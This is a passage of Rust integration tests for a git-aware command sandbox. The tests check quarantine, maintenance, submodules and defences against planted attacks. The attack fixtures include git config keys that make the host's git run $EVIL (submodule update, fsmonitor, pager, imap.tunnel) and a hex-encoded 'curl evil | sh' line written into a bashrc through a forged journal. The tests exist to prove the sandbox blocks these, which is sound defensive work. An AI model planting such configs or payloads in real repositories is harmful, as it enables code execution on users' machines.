    let commondir = repo.join(".git/worktrees/wt/commondir");
    let before = std::fs::read(&commondir).unwrap();
    // A host socket: bound outside the run, outside the worktree.
    let sock = s.path().join("host.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let report = s.path().join("report.json");
    let script = format!(
        "printf x >> '{}'; python3 -c \"import socket\ntry: socket.socket(socket.AF_UNIX).connect('{}')\nexcept OSError: pass\"",
        commondir.display(),
        sock.display()
    );
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "exec 9>'{}'; exec '{SANDBOX}' --backend landlock --report 9 '{}' -c \"$0\"",
            report.display(),
            wt.display()
        ))
        .arg(&script)
        .current_dir(&wt)
        .envs(git_env())
        .env("XDG_STATE_HOME", s.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(std::fs::read(&commondir).unwrap(), before);
    let records: Vec<serde_json::Value> = std::fs::read_to_string(&report)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 3, "{records:?}");
    assert_eq!(records[0]["backend"], "landlock", "{records:?}");
    // packed-refs: outside the writable set, git's lock protocol performed by the supervisor.
    let packed = serde_json::json!(repo.join(".git/packed-refs"));
    let row = records[0]["git"]["protected"]
        .as_array()
        .and_then(|rows| rows.iter().find(|r| r["path"] == packed))
        .unwrap_or_else(|| panic!("no packed-refs row: {records:?}"));
    assert!(
        row["how"]
            .as_str()
            .is_some_and(|h| h.contains("the supervisor performs git's lock protocol")),
        "{row}"
    );
    assert_eq!(
        records[1]["unix_refused"],
        serde_json::json!([sock]),
        "{records:?}"
    );
    assert_eq!(records[2]["git_restore"]["complete"], true, "{records:?}");
    assert_eq!(
        records[2]["git_restore"]["restored"],
        serde_json::json!([commondir]),
        "{records:?}"
    );
}

/// Contents of `n` blobs whose object names start with `17`: the fan-out directory `git gc
/// --auto` counts to estimate the loose objects (two there pass `gc.auto = 1`).
fn blobs_in_fanout_17(n: usize) -> Vec<String> {
    use sha1::{Digest, Sha1};
    (0..)
        .map(|i| format!("blob {i}\n"))
        .filter(|c| {
            let mut h = Sha1::new();
            h.update(format!("blob {}\0", c.len()).as_bytes());
            h.update(c.as_bytes());
            h.finalize()[0] == 0x17
        })
        .take(n)
        .collect()
}

/// git's automatic maintenance (docs/GIT.md, "Git works"): on Landlock it does not run in the
/// sandbox — in a linked worktree a gc expires every worktree's reflogs and prunes objects,
/// which the sandbox refuses (errors on every commit), and a detached one was stopped midway
/// when the run ended, leaving `*.lock` files that made every later git command fail; on the
/// namespace backends it runs in the private view, where what a stopped one leaves is the
/// view's. On every backend: a commit in a repository that needs a gc (`gc.auto = 1`, loose
/// objects in `objects/17`) prints no error, leaves no lock in the repository, and the host's
/// git works (and does the gc).
#[test]
fn automatic_maintenance_is_left_to_the_host_and_leaves_no_lock() {
    let mut failures = Vec::new();
    let blobs = Scratch::new();
    let files: Vec<String> = blobs_in_fanout_17(3)
        .iter()
        .enumerate()
        .map(|(k, blob)| {
            let f = blobs.path().join(format!("blob{k}"));
            std::fs::write(&f, blob).unwrap();
            f.display().to_string()
        })
        .collect();
    let mut setup: Vec<Vec<&str>> = vec![vec!["config", "gc.auto", "1"]];
    setup.extend(files.iter().map(|f| vec!["hash-object", "-w", f.as_str()]));
    let setup: Vec<&[&str]> = setup.iter().map(|a| a.as_slice()).collect();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, &setup);
            let common = l.repo.join(".git");
            let script = "GIT_TRACE=2 git commit -q --allow-empty -m maintained && echo COMMITTED";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
            cmd.envs(l.vars())
                .env("XDG_CONFIG_HOME", l.s.path().join("state"))
                .stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let text = show(&out);
            let errors = !git_failures(&out).is_empty();
            if out.status.code() != Some(0) || !text.contains("COMMITTED") || errors {
                failures.push(format!("{b} / uid {uid:?}: the commit failed\n{text}"));
            }
            let started = text.contains("run_command: git maintenance")
                || text.contains("run_command: git gc");
            if started && !private_view(b) {
                failures.push(format!("{b} / uid {uid:?}: maintenance started\n{text}"));
            }
            let locks = Command::new("find")
                .args([common.to_str().unwrap(), "-name", "*.lock"])
                .output()
                .unwrap();
            if !locks.stdout.is_empty() {
                failures.push(format!(
                    "{b} / uid {uid:?}: lock files left: {}",
                    String::from_utf8_lossy(&locks.stdout)
                ));
            }
            let after = l.host_git();
            if !after.is_empty() {
                failures.push(format!("{b} / uid {uid:?}: host git after: {after:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The supervisor reads files the command can replace — the index (for gitlinks), loose
/// objects and packs (at exit): a FIFO there must not stop it, a symlink to `/dev/zero` must
/// not fill its memory. Each is refused as "not a regular file" and named; it fails the run,
/// except where the index is the private view's, which then stays there.
#[test]
fn files_the_supervisor_reads_cannot_stop_it_or_fill_its_memory() {
    let mut failures = Vec::new();
    let setup: &[&[&str]] = &[
        &["repack", "-adq"],
        &["commit", "-q", "--allow-empty", "-m", "loose"],
    ];
    let plants = [
        ("index FIFO", "rm -f \"$GITDIR/index\"; mkfifo \"$GITDIR/index\"", "index"),
        ("index /dev/zero", "rm -f \"$GITDIR/index\"; ln -s /dev/zero \"$GITDIR/index\"", "index"),
        // Packs are read-only binds on the namespace backends: there the plant fails.
        (
            "pack FIFO",
            "for f in \"$COMMON\"/objects/pack/*.pack; do rm -f \"$f\" && mkfifo \"$f\"; done 2>/dev/null; true",
            ".pack",
        ),
    ];
    for b in backends() {
        for uid in uids() {
            for (what, script, named) in plants {
                if what == "pack FIFO" && b != "landlock" {
                    continue;
                }
                let l = Layout::new(uid, setup);
                let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
                cmd.envs(l.vars())
                    .stdin(Stdio::null())
                    .stdout(Stdio::piped())
                    .stderr(Stdio::piped());
                let mut child = cmd.spawn().unwrap();
                let deadline = Instant::now() + Duration::from_secs(60);
                while child.try_wait().unwrap().is_none() && Instant::now() < deadline {
                    std::thread::sleep(Duration::from_millis(50));
                }
                let cell = format!("{b} / uid {uid:?} / {what}");
                if child.try_wait().unwrap().is_none() {
                    let _ = child.kill();
                    failures.push(format!("{cell}: the sandbox did not end within 60 s"));
                    let _ = child.wait();
                    continue;
                }
                let out = child.wait_with_output().unwrap();
                let err = String::from_utf8_lossy(&out.stderr);
                let status = if private_view(b) && what.starts_with("index") {
                    0
                } else {
                    125
                };
                if out.status.code() != Some(status)
                    || !err.contains("not a regular file")
                    || !err.contains(named)
                {
                    failures.push(format!("{cell}: not refused and named\n{}", show(&out)));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Two runs at once on one repository, in two worktrees and in the same one, where the first
/// ends while the second's new objects still wait in its quarantine: they reach the store
/// (a run's guard once removed names added to the common dir, another run's live quarantine
/// with its objects among them), and nothing of either run stays in the common dir.
#[test]
fn concurrent_runs_keep_each_others_objects() {
    let mut failures = Vec::new();
    for b in backends() {
        let l = Layout::new(None, &[]);
        for (second, what) in [(&l.wt2, "another worktree"), (&l.wt, "the same worktree")] {
            let (mut first, _c1) = sandboxed(None, &l.wt, b, "sleep 2");
            first
                .envs(l.vars())
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::piped());
            let first = first.spawn().unwrap();
            std::thread::sleep(Duration::from_millis(500));
            // Larger than what is copied while the run lasts: it moves when the run ends.
            let script = "head -c 5000000 /dev/urandom > big && git add big && \
                          git commit -qm big && git rev-parse HEAD && sleep 3";
            let (mut cmd, _c2) = sandboxed(None, second, b, script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let first = first.wait_with_output().unwrap();
            let head = String::from_utf8_lossy(&out.stdout).trim().to_string();
            if out.status.code() != Some(0) || head.len() != 40 {
                failures.push(format!(
                    "{b}, {what}: the second run failed\n{}",
                    show(&out)
                ));
                continue;
            }
            if first.status.code() != Some(0) {
                failures.push(format!(
                    "{b}, {what}: the first run failed\n{}",
                    show(&first)
                ));
            }
            if let Some(why) = l.lacks(&head) {
                failures.push(format!(
                    "{b}, {what}: the store lacks the second run's commit\n{why}"
                ));
            }
        }
        if let Some(name) = l.stray_in_common() {
            failures.push(format!("{b}: {name} left in the common dir"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Without a state directory of its own (`$XDG_STATE_HOME`, `$HOME`) a run takes no object
/// quarantine — never one in a shared directory such as `/var/tmp`, where another run given it
/// as its temporary directory could plant one for a later run to adopt — says so, and its
/// commit still reaches the store.
#[test]
fn without_a_state_directory_there_is_no_quarantine_and_nothing_in_var_tmp() {
    let shared = || -> Vec<String> {
        std::fs::read_dir("/var/tmp")
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with("shofer-objects") || n.starts_with("shofer-git-guard"))
            .collect()
    };
    let before = shared();
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| *b != "landlock") {
        let l = Layout::new(None, &[]);
        let script = "echo x >> f; git add f; git commit -qm x && git rev-parse HEAD";
        let (mut cmd, _copy) = sandboxed(None, &l.wt, b, script);
        cmd.env_remove("HOME")
            .env_remove("XDG_STATE_HOME")
            .stdin(Stdio::null());
        let out = cmd.output().unwrap();
        let head = String::from_utf8_lossy(&out.stdout).trim().to_string();
        let said = String::from_utf8_lossy(&out.stderr).contains("no object quarantine");
        if out.status.code() != Some(0) || head.len() != 40 || !said {
            failures.push(format!("{b}: {}", show(&out)));
            continue;
        }
        if let Some(why) = l.lacks(&head) {
            failures.push(format!("{b}: the store lacks the commit\n{why}"));
        }
    }
    assert_eq!(shared(), before, "made in /var/tmp");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// git refreshes the time of an object it is about to write and finds in the store ("freshen",
/// `utime`), on a loose object and on a pack: in the read-only store of a quarantine the gate
/// performs it (else git wrote every recurring object again, docs/GIT.md "Objects"); a file
/// merely named like an object elsewhere gets the kernel's own `utime`, and the store's
/// object of that name is left alone.
#[test]
fn objects_the_store_has_are_freshened_not_written_again() {
    const OLD: &str = "2001-01-01";
    let mtime = |p: &Path| {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(p).map(|m| m.mtime()).unwrap_or(0)
    };
    let fresh = |p: &Path| mtime(p) > 978_307_200 + 86_400;
    let mut failures = Vec::new();
    for uid in uids() {
        for b in backends() {
            let l = Layout::new(None, &[]);
            let setup = format!(
                "set -e; cd '{}'; \
                 loose=$(printf 'loose content\\n' | git hash-object -w --stdin); \
                 packed=$(printf 'packed content\\n' | git hash-object -w --stdin); \
                 echo $packed | git pack-objects -q .git/objects/pack/pack >/dev/null; \
                 git prune-packed; \
                 mkdir -p ../wt/fake/${{loose%${{loose#??}}}}; \
                 touch -d {OLD} .git/objects/pack/*.pack .git/objects/??/* ../wt/fake/??; \
                 touch -d {OLD} .git/objects/${{loose%${{loose#??}}}}/${{loose#??}}; \
                 touch -d {OLD} ../wt/fake/${{loose%${{loose#??}}}}/${{loose#??}}; \
                 echo $loose",
                l.repo.display()
            );
            let out = Command::new("bash")
                .args(["-c", &setup])
                .envs(git_env())
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", show(&out));
            let loose = String::from_utf8_lossy(&out.stdout).trim().to_string();
            if let Some(u) = uid {
                l.s.chown_all(u);
            }
            let objects = l.repo.join(".git/objects");
            let stored = objects.join(&loose[..2]).join(&loose[2..]);
            let fake = l.wt.join("fake").join(&loose[..2]).join(&loose[2..]);
            let packs: Vec<PathBuf> = walk_files(&objects.join("pack"))
                .into_iter()
                .filter(|p| p.extension().is_some_and(|e| e == "pack"))
                .collect();
            // The fake first: the store's object must keep its old time through it.
            let script = format!(
                "touch -c fake/{}/{} && [ \"$(stat -c %Y fake/{}/{})\" -gt 978393600 ] && \
                 [ \"$(stat -c %Y \"$COMMON/objects/info/store/{}/{}\" 2>/dev/null || \
                       stat -c %Y \"$COMMON/objects/{}/{}\")\" -lt 978393600 ] && \
                 printf 'loose content\\n' | git hash-object -w --stdin && \
                 printf 'packed content\\n' | git hash-object -w --stdin",
                &loose[..2],
                &loose[2..],
                &loose[..2],
                &loose[2..],
                &loose[..2],
                &loose[2..],
                &loose[..2],
                &loose[2..]
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let who = format!("{b}, uid {uid:?}");
            if out.status.code() != Some(0) {
                failures.push(format!("{who}: the run failed\n{}", show(&out)));
                continue;
            }
            if !fresh(&fake) {
                failures.push(format!("{who}: touch -c left the worktree's file old"));
            }
            if !fresh(&stored) {
                failures.push(format!("{who}: the loose object was not freshened"));
            }
            if packs.is_empty() || !packs.iter().all(|p| fresh(p)) {
                failures.push(format!("{who}: the pack was not freshened: {packs:?}"));
            }
            // Not written again: a copy of the packed object would have been moved in loose.
            let packed = String::from_utf8_lossy(&out.stdout)
                .lines()
                .last()
                .unwrap_or("")
                .to_string();
            if packed.len() != 40 || objects.join(&packed[..2]).join(&packed[2..]).exists() {
                failures.push(format!(
                    "{who}: the packed object {packed:?} was written again"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// What a run leaves in its quarantine goes to its entry's trash, which later runs empty, and
/// the entry of a repository that is gone is removed — whatever modes the command gave the
/// directories it made there. As uid 65534 a directory of mode 000 or 0500 cannot be moved
/// until its mode is restored (an attack pass found the trash then never emptied and the
/// entry never removed).
#[test]
fn the_trash_is_emptied_whatever_modes_the_command_left() {
    let mut failures = Vec::new();
    for b in backends().into_iter().filter(|b| *b != "landlock") {
        for uid in uids() {
            let gone = Layout::new(uid, &[]);
            let other = Layout::new(uid, &[]);
            if let Some(u) = uid {
                other.s.chown_all(u);
            }
            let script = "o=$(git rev-parse --git-path objects) && \
                          mkdir -p \"$o/zz/a/b/c\" \"$o/zz/d/e\" && touch \"$o/zz/a/b/f\" && \
                          chmod 000 \"$o/zz/a/b\" && chmod 500 \"$o/zz/a\" \"$o/zz/d\" \"$o/zz\"";
            let who = format!("{b}, uid {uid:?}");
            let (mut cmd, _copy) = sandboxed(uid, &gone.wt, b, script);
            cmd.envs(gone.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let entries = || -> Vec<PathBuf> {
                std::fs::read_dir(gone.s.path().join("state/shofer/objects"))
                    .map(|rd| rd.flatten().map(|e| e.path()).collect())
                    .unwrap_or_default()
            };
            if out.status.code() != Some(0) || entries().len() != 1 {
                failures.push(format!(
                    "{who}: the first run: {:?}\n{}",
                    entries(),
                    show(&out)
                ));
                continue;
            }
            let first = entries().remove(0);
            std::fs::remove_dir_all(&gone.repo).unwrap();
            // Another repository's run, with the same state directory, forgets the entry.
            let (mut cmd, _copy) = sandboxed(uid, &other.wt, b, "true");
            cmd.envs(gone.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let left: Vec<PathBuf> = entries().into_iter().filter(|e| *e == first).collect();
            if out.status.code() != Some(0) || !left.is_empty() {
                failures.push(format!(
                    "{who}: the gone repository's entry stays: {left:?}\n{}",
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// A submodule registered in the repository (`submodule.<name>.url` in the common config) is
/// cloned and checked out by `git submodule update --init` in a linked worktree on every
/// backend: its git dir is the worktree's own (`worktrees/<wt>/modules/<name>`), exit 0, no
/// `error:` line, and the host's git sees it checked out afterwards.
#[test]
fn a_registered_submodule_is_updated_in_a_linked_worktree() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(None, &[]);
            let lib = l.s.path().join("lib");
            std::fs::create_dir(&lib).unwrap();
            git(&lib, &["init", "-q", "-b", "main"]);
            git(&lib, &["commit", "-q", "--allow-empty", "-m", "lib"]);
            let url = lib.to_str().unwrap();
            let file = ["-c", "protocol.file.allow=always"];
            git(
                &l.repo,
                &[&file[..], &["submodule", "add", "-q", url, "lib"]].concat(),
            );
            git(&l.repo, &["commit", "-qm", "lib"]);
            git(&l.wt, &["merge", "-q", "main"]);
            if let Some(u) = uid {
                l.s.chown_all(u);
            }
            let script = "git -c protocol.file.allow=always submodule update --init && \
                          git submodule status && git -C lib log -1 --oneline";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let who = format!("{b}, uid {uid:?}");
            if out.status.code() != Some(0) || !git_failures(&out).is_empty() {
                failures.push(format!("{who}: the update failed\n{}", show(&out)));
                continue;
            }
            let mut status = Command::new("git");
            status
                .args(["submodule", "status"])
                .current_dir(&l.wt)
                .envs(git_env());
            as_uid(&mut status, uid);
            let status = status.output().unwrap();
            let line = String::from_utf8_lossy(&status.stdout).to_string();
            if !line.starts_with(' ') || !line.contains(" lib") {
                failures.push(format!(
                    "{who}: the host's git does not see it checked out: {line:?}\n{}",
                    show(&status)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Pushing into a repository outside the writable set (a bare `origin.git` beside the
/// repository) fails on every backend with git's own reason — its receive-pack cannot create
/// the incoming-objects directory there — and the remote is unchanged.
#[test]
fn a_push_into_a_repository_outside_fails_and_says_why() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = repo_with_remote(uid);
            let origin = l.s.path().join("origin.git");
            let refs = || {
                let out = Command::new("git")
                    .args(["for-each-ref"])
                    .current_dir(&origin)
                    .output()
                    .unwrap();
                String::from_utf8_lossy(&out.stdout).to_string()
            };
            let before = refs();
            let script =
                "git commit -q --allow-empty -m pushed && git push origin HEAD:refs/heads/new";
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, script);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let err = String::from_utf8_lossy(&out.stderr);
            let who = format!("{b}, uid {uid:?}");
            if out.status.success()
                || !err.contains("unable to create temporary object directory")
                || !err.contains("[remote rejected]")
            {
                failures.push(format!("{who}: the push\n{}", show(&out)));
            }
            if refs() != before {
                failures.push(format!("{who}: the remote's refs changed"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// A fetch of a history whose commit git's fsck calls broken only for what an identity line
/// holds (`badTimezone`: real histories have them, and git fetches them) reaches the store,
/// loose and as a pack, on every backend: an attack pass found the commit refused, the ref
/// the fetch wrote pointing at a missing object and, for a pack, every object of it dropped.
/// A git whose `index-pack` takes no fsck message ids (2.39) still refuses such a pack, and
/// the run names it (docs/GIT.md "Objects").
#[test]
fn a_fetched_history_with_a_malformed_identity_reaches_the_store() {
    let probe = Command::new("git")
        .args(["index-pack", "--stdin", "--fsck-objects=badTimezone=warn"])
        .current_dir("/")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let packs_take_ids = !probe.stderr.starts_with(b"usage:");
    let mut failures = Vec::new();
    for b in backends() {
        for unpack_limit in ["100", "1"] {
            let l = Layout::new(None, &[]);
            let remote = l.s.path().join("remote");
            std::fs::create_dir(&remote).unwrap();
            git(&remote, &["init", "-q", "-b", "main"]);
            for i in 0..5 {
                std::fs::write(remote.join(format!("f{i}")), format!("{i}\n")).unwrap();
            }
            git(&remote, &["add", "."]);
            git(&remote, &["commit", "-qm", "files"]);
            let script = "t=$(git rev-parse HEAD^{tree}); p=$(git rev-parse HEAD); \
                printf 'tree %s\\nparent %s\\nauthor A <a@b> 1100000000 +05\\ncommitter A <a@b> 1100000000 +05\\n\\nold\\n' $t $p \
                | git hash-object -t commit -w --literally --stdin | xargs git update-ref refs/heads/main";
            let out = Command::new("sh")
                .args(["-c", script])
                .current_dir(&remote)
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", show(&out));
            let fetch = format!(
                "git -c fetch.unpackLimit={unpack_limit} fetch -q {} main:refs/remotes/r/main",
                remote.display()
            );
            let (mut cmd, _copy) = sandboxed(None, &l.wt, b, &fetch);
            cmd.envs(l.vars()).stdin(Stdio::null());
            let out = cmd.output().unwrap();
            let who = format!("{b}, unpackLimit {unpack_limit}");
            if !out.status.success() {
                failures.push(format!("{who}: the fetch failed\n{}", show(&out)));
                continue;
            }
            // Landlock has no quarantine: git's own index-pack writes the store.
            if unpack_limit == "1" && !packs_take_ids && b != "landlock" {
                if !String::from_utf8_lossy(&out.stderr).contains("git index-pack refused it") {
                    failures.push(format!(
                        "{who}: the refused pack is not named\n{}",
                        show(&out)
                    ));
                }
                continue;
            }
            let log = Command::new("git")
                .args(["log", "--oneline", "r/main"])
                .current_dir(&l.repo)
                .output()
                .unwrap();
            if !log.status.success() || String::from_utf8_lossy(&log.stdout).lines().count() != 2 {
                failures.push(format!(
                    "{who}: the host's git cannot read the fetched history\n{}\nsandbox: {}",
                    show(&log),
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Runs `args` with the host's git in `dir` as `uid` (the scratch's user), with the test's
/// environment; returns its output.
fn host_git_in(l: &Layout, dir: &Path, args: &[&str]) -> std::process::Output {
    let mut cmd = Command::new("git");
    cmd.args(args)
        .current_dir(dir)
        .envs(git_env())
        .env("XDG_CONFIG_HOME", l.s.path().join("state"))
        .stdin(Stdio::null());
    as_uid(&mut cmd, l.uid);
    cmd.output().unwrap()
}

/// A nested repository `sub` (registered in `.gitmodules` and the index) whose own config
/// sets `submodule.x.update = !$EVIL` for its submodule `x` (populated, its recorded commit
/// not checked out), beside other keys that name programs and that the old list of program
/// keys missed (issue 29, F5): the host's `git submodule update --init --recursive` runs
/// `$EVIL` in `sub`.
const F5_PLANT: &str = r#"set -e
git init -q x && git -C x commit -q --allow-empty -m A && git -C x commit -q --allow-empty -m B
B=$(git -C x rev-parse HEAD); git -C x branch -q b; git -C x reset -q --hard HEAD~1
mkdir sub && git -C sub init -q && mv x sub/x
git -C sub update-index --add --cacheinfo 160000,$B,x
printf '[submodule "x"]\n\tpath = x\n\turl = ./x\n' > sub/.gitmodules
git -C sub add .gitmodules && git -C sub commit -q -m s
git -C sub config submodule.x.url "$PWD/sub/x"
git -C sub config submodule.x.active true
git -C sub config submodule.x.update "!$EVIL"
git -C sub config interactive.diffFilter "$EVIL"
git -C sub config pager.log "$EVIL"
git -C sub config imap.tunnel "$EVIL"
printf '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n' > .gitmodules
git add .gitmodules sub 2>/dev/null"#;

/// Issue 29, F5: keys that run a program were missed by a list of such keys; a nested
/// repository's config now stays only if every key is on an allow-list, so after the run the
/// host's `git submodule update --init --recursive` runs nothing the command planted. Every
/// backend, as root and as uid 65534.
#[test]
fn a_nested_config_with_keys_off_the_allow_list_runs_nothing_after_the_run() {
    let update = ["submodule", "update", "--init", "--recursive"];
    // Control: unsandboxed, the host's update runs the program.
    let l = Layout::new(None, &[]);
    let out = Command::new("sh")
        .args(["-c", F5_PLANT])
        .current_dir(&l.wt)
        .envs(git_env())
        .envs(l.vars())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", show(&out));
    let host = host_git_in(&l, &l.wt, &update);
    assert!(
        l.ran(),
        "control: the planted update command did not run: {}",
        show(&host)
    );
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, &[]);
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, F5_PLANT);
            let out = cmd.envs(l.vars()).stdin(Stdio::null()).output().unwrap();
            let cell = format!("{b} / uid {uid:?}");
            if out.status.code() != Some(0) {
                failures.push(format!("{cell}: exit status: {}", show(&out)));
                continue;
            }
            let host = host_git_in(&l, &l.wt, &update);
            if l.ran() {
                failures.push(format!(
                    "{cell}: the host's submodule update ran the command's program\nhost: {}\nsandbox: {}",
                    show(&host),
                    show(&out)
                ));
            }
            let moved = std::fs::read_dir(l.wt.join("sub/.git"))
                .unwrap()
                .flatten()
                .any(|e| {
                    e.file_name()
                        .to_string_lossy()
                        .starts_with("config.shofer-quarantined-")
                });
            if !moved || !String::from_utf8_lossy(&out.stderr).contains("submodule.x.update") {
                failures.push(format!(
                    "{cell}: the config was not moved aside naming submodule.x.update: {}",
                    show(&out)
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// Issue 29, F4: a command that keeps rewriting a gitlinked repository's config
/// (`core.fsmonitor = $EVIL`, a new file moved into place) while the host runs `git status` in
/// the worktree. In a private view (the namespace backends) the host-visible index gains no
/// gitlink until the run has ended and been checked: the host's git never runs the program.
/// Landlock cannot keep the index private: where the host's git ran the program during the
/// run, the run must have named that gap (`nested_repositories_during_run`) on stderr. After
/// the run it must never run. Every backend, as root and as uid 65534.
#[test]
fn a_nested_config_rewritten_in_a_loop_is_a_named_gap_during_the_run_and_gone_after() {
    let mut failures = Vec::new();
    for b in backends() {
        for uid in uids() {
            let l = Layout::new(uid, &[]);
            let go = l.s.path().join("go");
            let ready = l.signal_file("f4");
            let script = format!(
                "mkdir sub && git -C sub init -q && git -C sub commit -q --allow-empty -m s && git add sub && touch '{r}'; \
                 while [ ! -e '{g}' ]; do printf '[core]\\n\\tfsmonitor = %s\\n' \"$EVIL\" > sub/.git/c.new && mv sub/.git/c.new sub/.git/config; done",
                r = ready.display(),
                g = go.display(),
            );
            let (mut cmd, _copy) = sandboxed(uid, &l.wt, b, &script);
            cmd.envs(l.vars())
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped());
            let mut child = cmd.spawn().unwrap();
            let cell = format!("{b} / uid {uid:?}");
            if !wait_for(&ready, &mut child) {
                failures.push(format!("{cell}: the command ended early"));
            }
            let mut ran_during = false;
            for _ in 0..20 {
                host_git_in(&l, &l.wt, &["status", "--short"]);
                ran_during |= l.ran();
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = std::fs::remove_file(l.s.path().join("ran"));
            std::fs::write(&go, "").unwrap();
            let _ = std::fs::remove_file(&ready);
            let out = child.wait_with_output().unwrap();
            host_git_in(&l, &l.wt, &["status", "--short"]);
            let stderr = String::from_utf8_lossy(&out.stderr);
            let named = stderr.contains("hardening not enforced (nested_repositories_during_run)");
            if ran_during && !named {
                failures.push(format!(
                    "{cell}: the host's git ran the program during the run, and the run did not name the gap: {}",
                    show(&out)
                ));
            }
            if private_view(b) && ran_during {
                failures.push(format!(
                    "{cell}: the host's git ran the program during the run, in a private view: {}",
                    show(&out)
                ));
            }
            if !named && !private_view(b) {
                failures.push(format!("{cell}: the gap is not named: {}", show(&out)));
            }
            if ran_during {
                println!("{cell}: the host's git ran the program during the run (the named gap)");
            }
            if l.ran() {
                failures.push(format!(
                    "{cell}: the host's git ran the program after the run: {}",
                    show(&out)
                ));
            }
            if out.status.code() != Some(0) {
                failures.push(format!("{cell}: exit status: {}", show(&out)));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

/// The journal name of worktree `wt` (canonical): FNV-1a of its path, as `gitguard` names it.
fn journal_name(wt: &Path, n: u32) -> String {
    use std::os::unix::ffi::OsStrExt;
    let mut h: u64 = 0xcbf29ce484222325;
    for b in wt.as_os_str().as_bytes() {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    format!("{h:016x}-{n}.json")
}

/// Issue 29 (F8): the git guard's journal is read back as checked as it is written. A journal
/// that a command could have planted — in a state directory under `/tmp` (`HOME=/tmp`, common
/// in containers), or naming a file outside this worktree's git directories — is ignored with
/// a line naming it, never acted on: the scratch `bashrc` it names keeps its content, through
/// the next run and `--repair`, as root and as an unprivileged uid.
#[test]
fn a_planted_journal_is_never_acted_on() {
    let mut failures = Vec::new();
    for uid in uids() {
        let l = Layout::new(uid, &[]);
        let bashrc = l.s.path().join("bashrc");
        std::fs::write(&bashrc, "original\n").unwrap();
        let under_tmp = Scratch::new_in("/tmp");
        // Two state directories: one under /tmp (inside every run's writable set), one of
        // the user's outside it.
        for (state, why) in [
            (
                under_tmp.path().join("state"),
                "not reading what earlier runs left in",
            ),
            (l.s.path().join("state"), "ignoring the git-guard journal"),
        ] {
            let journals = state.join("shofer/git-guard");
            std::fs::create_dir_all(&journals).unwrap();
            let record = serde_json::json!({
                "worktree": l.wt, "pid": 0, "start": 0,
                "entries": [{"dir": l.s.path(), "name": "bashrc",
                             "state": {"file": "6375726c206576696c207c2073680a", "mode": 420}}],
            });
            let journal = journals.join(journal_name(&l.wt, 1));
            std::fs::write(&journal, record.to_string()).unwrap();
            std::fs::set_permissions(&journal, std::fs::Permissions::from_mode(0o600)).unwrap();
            for dir in [&state, &state.join("shofer"), &journals] {
                std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
            }
            if let Some(u) = uid {
                under_tmp.chown_all(u);
                l.s.chown_all(u);
            }
            for repair in [false, true] {
                let copy = uid.map(|u| ReachableCopy::new(Path::new(SANDBOX), u));
                let mut cmd = Command::new(copy.as_ref().map_or(Path::new(SANDBOX), |c| c.path()));
                if repair {
                    cmd.arg("--repair").arg(&l.wt);
                } else {
                    cmd.arg(&l.wt).args(["--", "true"]);
                }
                cmd.env("XDG_STATE_HOME", &state)
                    .current_dir(&l.wt)
                    .stdin(Stdio::null());
                as_uid(&mut cmd, uid);
                let out = cmd.output().unwrap();
                let cell = format!("{uid:?} {} repair={repair}", state.display());
                if out.status.code() != Some(0) {
                    failures.push(format!("{cell}: exit status\n{}", show(&out)));
                }
                let said = String::from_utf8_lossy(&out.stderr);
                if !said.contains(why) || said.contains("restored from the journal") {
                    failures.push(format!("{cell}: expected {why:?}\n{}", show(&out)));
                }
                let now = std::fs::read_to_string(&bashrc).unwrap();
